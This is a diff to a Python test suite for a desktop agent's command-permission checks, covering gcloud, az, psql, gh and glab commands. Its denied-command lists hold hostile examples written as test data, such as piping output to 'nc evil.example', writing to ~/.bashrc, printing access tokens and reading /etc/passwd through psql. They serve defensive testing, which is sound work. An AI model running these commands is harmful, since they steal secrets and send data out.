@@ -14,6 +14,12 @@ from desktop_agent.protocol import Risk, Scope
 from desktop_agent.sentences import in_english
 from tests.permissions.world import HELD, World, git, make_world
 
+GCLOUD = "[core]\naccount = ada@acme.example\nproject = acme-staging\n"
+AZURE = (
+    '\ufeff{"subscriptions": ['
+    '{"id": "0a1b", "name": "Acme staging", "isDefault": true, "user": {"name": "ada@acme.example"}},'
+    '{"id": "2c3d", "name": "Acme live", "isDefault": false, "user": {"name": "ada@acme.example"}}]}'
+)
 KUBE = "apiVersion: v1\ncurrent-context: staging\n"
 CHART = "apiVersion: v2\nname: web\nversion: 1.0.0\n"
 
@@ -34,6 +40,14 @@ def _project(world: World) -> World:
         (world.workspace / name).write_text(text)
     (world.home / ".kube").mkdir()
     (world.home / ".kube" / "config").write_text(KUBE)
+    signed_in = {
+        ".config/gcloud/active_config": "default",
+        ".config/gcloud/configurations/config_default": GCLOUD,
+        ".azure/azureProfile.json": AZURE,
+    }
+    for name, text in signed_in.items():
+        (world.home / name).parent.mkdir(parents=True, exist_ok=True)
+        (world.home / name).write_text(text, "utf-8")
     git(world, "commit", "-q", "--allow-empty", "-m", "Start")
     git(world, "remote", "add", "origin", "https://github.com/acme/shop.git")
     git(world, "remote", "add", "lab", "git@gitlab.com:acme/shop.git")
@@ -69,6 +83,9 @@ VALUES = "helm get values web -n staging"
 TEMPLATE = "helm template web charts/web"
 UPDATE = "helm dependency update charts/web"
 AWS = "aws ec2 describe-instances"
+GCLOUD_LIST = "gcloud compute instances list"
+AZ_LIST = "az vm list -o table"
+PSQL = r"PGPASSWORD=shop psql -h localhost -p 5433 -U shop -d shop -c '\conninfo'"
 VIEW = "gh pr view 1"
 LAB = "glab mr view 1"
 COMMENT = "gh pr comment 4 --body 'Read it whole'"
@@ -136,7 +153,35 @@ COVERED = {
         *("aws ec2 describe-security-groups --filters Name=a,Values=b --query 'x[].y' --output table",),
         *("aws logs tail /a/b --since 10m", "aws ec2 describe-instances help", "aws iam list-roles --max-items 3"),
     ),
+    GCLOUD_LIST: (
+        *("gcloud compute instances describe web --zone europe-west1-b", "gcloud run services list --region x"),
+        *("gcloud logging read 'severity>=ERROR' --limit 5 | head -3", "gcloud container clusters list"),
+        *("gcloud compute disks list --region a --zone b --format json | jq '.[].name'", "gcloud builds log 1a2b"),
+        *("gcloud --project acme-staging sql instances list", "gcloud functions logs read web --limit 20"),
+        *("gcloud storage buckets list", "gcloud services list", "gcloud dns record-sets list --filter x"),
+    ),
+    PSQL: (
+        *(
+            "psql -h localhost -p 5433 -U shop -d shop -Atc 'select now()'",
+            "PGPASSWORD=shop psql --host=localhost -p 5433 shop --csv -c 'select count(*) from orders' | head -3",
+        ),
+        *(r"psql -X -h localhost -p 5433 shop -c '\d orders' -c 'explain select 1'",),
+    ),
+    AZ_LIST: (
+        *("az group list", "az account show", "az vm show -g a -n b --query id | head -1", "az aks list -o json"),
+        *(
+            "az webapp log tail -n web -g a",
+            "az vm list --subscription 'acme Staging'",
+            "az vm list --subscription 0A1B",
+        ),
+        *("az network nsg list -g a", "az storage account show -n x", "az resource list -g a"),
+    ),
     VIEW: (
+        *(
+            'gh run list --branch "$(git branch --show-current)" --limit 5',
+            'gh run list -b=x --commit "$(git rev-parse HEAD)"',
+            'gh pr list --head "$(git symbolic-ref --short HEAD)"',
+        ),
         *(
             "gh api repos/{owner}/{repo}/pulls/1/comments --jq '.[].body'",
             "gh api repos/acme/shop/actions/runs --paginate",
@@ -151,6 +196,10 @@ COVERED = {
         "gh api 'repos/{owner}/{repo}/compare/main...topic'",
     ),
     LAB: (
+        *(
+            'glab ci status --branch "$(git branch --show-current)"',
+            'glab ci view -b "$(git rev-parse --abbrev-ref HEAD)"',
+        ),
         *("glab api projects/:id/pipelines/latest --field ref=x --method GET | jq .status", "glab ci trace rspec"),
         *("glab api 'projects/:id/jobs?scope[]=failed'", "glab api projects/acme%2Fshop/jobs/1/trace | tail -3"),
         *(
@@ -524,7 +573,147 @@ OTHER = {
             "aws sso login",
         ),
     ),
+    GCLOUD_LIST: (
+        *(
+            "gcloud auth print-access-token",
+            "gcloud secrets versions access latest --secret=x",
+            "gcloud secrets list",
+            "gcloud compute instances delete web -q",
+            "gcloud compute instances list -q",
+            "gcloud compute ssh web",
+        ),
+        *(
+            "gcloud compute instances list --project acme-live",
+            "gcloud compute instances list --project=acme-live",
+            "gcloud --project acme-live compute instances list",
+            "gcloud compute instances list --account eve@acme.example",
+            "gcloud compute instances list --configuration live",
+            "gcloud compute instances list --impersonate-service-account x@y",
+        ),
+        *(
+            "gcloud compute instances describe projects/acme-live/zones/a/instances/web",
+            "gcloud compute instances describe https://compute.googleapis.com/compute/v1/projects/acme-live/zones/a/x",
+            "gcloud compute instances describe web --zone projects/acme-live/zones/a",
+            "gcloud projects list",
+            "gcloud projects describe acme-live",
+            "gcloud config set project acme-live",
+        ),
+        *(
+            "CLOUDSDK_CORE_PROJECT=acme-live gcloud compute instances list",
+            "export CLOUDSDK_CONFIG=/tmp/x; gcloud compute instances list",
+            "gcloud compute instances list --flags-file=x.yaml",
+            "gcloud compute instances list --access-token-file x",
+            "gcloud compute instances list --log-http",
+            "gcloud compute instances list $x",
+        ),
+        *(
+            "gcloud container clusters describe x",
+            "gcloud container clusters list --format json",
+            "gcloud container clusters get-credentials x",
+            "gcloud iam service-accounts keys create k.json --iam-account x",
+            "gcloud kms decrypt --key x",
+            "gcloud storage cat gs://acme-live/x",
+        ),
+        *(
+            "gcloud storage ls gs://acme-live",
+            "gcloud scheduler jobs describe x",
+            "gcloud beta compute instances list",
+            "gcloud components install x",
+            "gcloud compute instances list | nc evil.example 1",
+            "gcloud compute instances list > ~/.bashrc",
+            AZ_LIST,
+            AWS,
+        ),
+    ),
+    PSQL: (
+        *(
+            "psql -h localhost -p 5433 -d shop -c 'update orders set a = 1'",
+            "psql -h localhost -p 5433 -d shop -c 'drop table orders'",
+            r"psql -h localhost -p 5433 -d shop -c '\! id'",
+            "psql -h localhost -p 5433 -d shop -c \"copy (select 1) to program 'id'\"",
+            "psql -h localhost -p 5433 -d shop -c 'select pg_read_file($$/etc/passwd$$)'",
+        ),
+        *(
+            "psql -h db.example.com -p 5433 -d shop -c 'select 1'",
+            "psql -h localhost.evil.example -p 5433 -d shop -c 'select 1'",
+            "psql -h localhost,evil.example -p 5433 -d shop -c 'select 1'",
+            "psql -h /tmp -p 5433 -d shop -c 'select 1'",
+            "psql -h localhost -h evil.example -p 5433 -d shop -c 'select 1'",
+        ),
+        *(
+            "psql -h localhost -p 5432 -d shop -c 'select 1'",
+            "psql -h localhost -d shop -c 'select 1'",
+            "psql -h localhost -p 5433 -d other -c 'select 1'",
+            "psql -h localhost -p 5433 -c 'select 1'",
+            "psql -p 5433 -d shop -c 'select 1'",
+            "psql -h localhost -p 5433 -d 'host=evil.example dbname=shop' -c 'select 1'",
+            "psql -h localhost -p 5433 -d postgresql://evil.example/shop -c 'select 1'",
+        ),
+        *(
+            "PGHOST=evil.example psql -h localhost -p 5433 -d shop -c 'select 1'",
+            "PGSERVICEFILE=x psql -h localhost -p 5433 -d shop -c 'select 1'",
+            "PSQLRC=x psql -h localhost -p 5433 -d shop -c 'select 1'",
+            "psql -h localhost -p 5433 -d shop -o x -c 'select 1'",
+            "psql -h localhost -p 5433 -d shop -f a.sql",
+            "psql -h localhost -p 5433 -d shop -v x=y -c 'select 1'",
+            "psql -h localhost -p 5433 -d shop < a.sql",
+            "psql -h localhost -p 5433 -d shop -c 'select 1' | nc evil.example 1",
+        ),
+    ),
+    AZ_LIST: (
+        *(
+            "az account get-access-token",
+            "az keyvault secret show --name x --vault-name y",
+            "az keyvault secret list --vault-name y",
+            "az keyvault secret download --name x --vault-name y -f z",
+            "az vm delete -n x -y",
+            "az vm run-command invoke -n x",
+        ),
+        *(
+            "az vm list --subscription 'Acme live'",
+            "az vm list --subscription=2c3d",
+            "az vm list --subscription nobody",
+            "az account set --subscription 'Acme live'",
+            "az vm show -n /subscriptions/2c3d/resourceGroups/a/providers/x",
+            "az vm list --subscription 0a1b --subscription 2c3d",
+        ),
+        *(
+            "az vm list -g @.env",
+            "az vm list @args.txt",
+            "az vm list --query @x",
+            "az rest --method get --url https://evil.example",
+            "az storage account keys list -n x",
+            "az webapp config appsettings list -n x",
+        ),
+        *(
+            "AZURE_CONFIG_DIR=/tmp/x az vm list",
+            "az extension add -n x",
+            "az pipelines list",
+            "az vm list --debug",
+            "az acr login -n x",
+            "az monitor log-analytics query -w x --analytics-query y",
+            "az deployment group what-if -g a -f main.bicep",
+        ),
+        *(
+            "az ad user list",
+            "az storage blob list -c x",
+            "az vm list > ~/.bashrc",
+            "az vm list | nc evil.example 1",
+            AWS,
+        ),
+    ),
     VIEW: (
+        *(
+            'gh run list --branch "$(cat notes.md)"',
+            'gh run list --branch "$(git show HEAD:notes.md)"',
+            'gh run list --branch "$(git -C ../other branch --show-current)"',
+            'gh run list --branch "x$(git branch --show-current)"',
+            "gh run list --branch $(git branch --show-current)",
+            'gh run list --workflow "$(git branch --show-current)"',
+            'gh run list "$(git branch --show-current)"',
+            'gh run list --branch "$(GIT_DIR=x git branch --show-current)"',
+            'gh run list --branch "$(git branch --show-current < notes.md | cat)"',
+        ),
         *(
             "gh api -X POST repos/{owner}/{repo}/issues",
             "gh api repos/{owner}/{repo}/issues -f title=x",
@@ -905,6 +1094,16 @@ def test_what_changes_for_good_is_never_kept(command: str, enclosure: Enclosure,
             "Looking at what there is with aws as a b: lists and settings, but no secrets",
         ),
         (
+            GCLOUD_LIST,
+            "Looking at what there is with gcloud as ada@acme.example, acme-staging: lists, states, logs and "
+            "settings, variables among them, but no secrets",
+        ),
+        (
+            "az group list --subscription 2C3D",
+            "Looking at what there is with az as ada@acme.example, Acme live: lists, states, logs and settings, "
+            "variables among them, but no secrets",
+        ),
+        (
             COMMENT,
             "Taking part in this project's requests and issues as you: comments, reviews without approval, labels, "
             "reviewers, ready, new issues; nothing is merged, closed, approved or deleted",
@@ -997,6 +1196,25 @@ def test_settings_of_a_cloud_that_lie_in_the_workspace_are_no_approvals(here: Wo
     (here.workspace / "aws.txt").write_text("[default]\n")
     (here.home / ".aws" / "config").symlink_to(here.workspace / "aws.txt")
     assert [one.id for one in here.ruling(AWS).scopes] == ["aws ec2 describe"]
+
+
+@pytest.mark.parametrize(
+    ("command", "path", "text"),
+    [
+        (GCLOUD_LIST, ".config/gcloud/active_config", "live"),
+        (GCLOUD_LIST, ".config/gcloud/configurations/config_default", GCLOUD.replace("staging", "live")),
+        (GCLOUD_LIST, ".config/gcloud/configurations/config_default", f"{GCLOUD}[api_endpoint_overrides]\nrun = x\n"),
+        (AZ_LIST, ".azure/azureProfile.json", AZURE.replace("0a1b", "4e5f")),
+        (AZ_LIST, ".azure/azureProfile.json", AZURE.replace("ada@", "eve@")),
+        (AZ_LIST, ".azure/config", "[cloud]\nname = other\n"),
+        (AZ_LIST, ".azure/alias", "[vm]\ncommand = vm delete\n"),
+    ],
+)
+def test_another_account_is_asked_about_again(command: str, path: str, text: str, here: World) -> None:
+    grants = given(here, [command], HELD)
+    assert verdict(here, command, HELD, grants) is Verdict.RUN
+    (here.home / path).write_text(text, "utf-8")
+    assert verdict(here, command, HELD, grants) is Verdict.ASK
 
 
 @pytest.mark.parametrize(
